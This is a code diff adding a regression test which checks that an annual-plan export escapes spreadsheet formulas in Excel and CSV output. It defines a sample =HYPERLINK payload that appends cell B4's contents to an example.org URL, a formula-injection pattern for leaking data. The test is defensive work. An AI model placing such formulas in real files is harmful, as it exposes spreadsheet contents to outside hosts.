@@ -166,3 +166,28 @@ def test_retention_removes_old_conversation_events(tmp_path):
     with engine.connect() as conn:
         assert conn.execute(text("SELECT sender_id FROM events")).scalars().all() == ["b"]
     engine.dispose()
+
+
+FORMULA = '=HYPERLINK("https://example.org/?d="&B4,"Klik hier")'
+
+
+def test_formulas_typed_as_answers_stay_text_in_excel_and_csv(db_url, today):
+    """Issue 14, finding 8: an activity named =HYPERLINK(...) was written as a formula."""
+    from openpyxl import load_workbook
+
+    service.sync_identity(MANAGER)
+    fill("mark", "strategie", STRATEGIE[1:], today)
+    answers = dict(JAARPLAN[:12]) | {"act_wat": FORMULA, "act_doelgroep": "-Team Financiën", "act_nog_een": "nee"}
+    service.start("mark", "jaarplan", today)
+    for _ in range(40):
+        if (key := service.current_question("mark", "jaarplan", today)) is None:
+            break
+        assert service.answer("mark", "jaarplan", answers[key], today).accepted, key
+    body, _, _ = exports.build("jaarplan_xlsx", "mark")
+    ws = load_workbook(io.BytesIO(body))["Activiteiten"]
+    row = [c for c in ws[3]]
+    assert row[1].data_type == "s" and row[1].value == "'" + FORMULA
+    assert row[2].data_type == "s" and row[2].value == "'-Team Financiën"
+    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "@", "-")) for r in ws.iter_rows() for c in r)
+    rows = list(csv.reader(io.StringIO(exports.build("jaarplan_csv", "mark")[0].decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][1] == "'" + FORMULA and rows[1][2] == "'-Team Financiën"
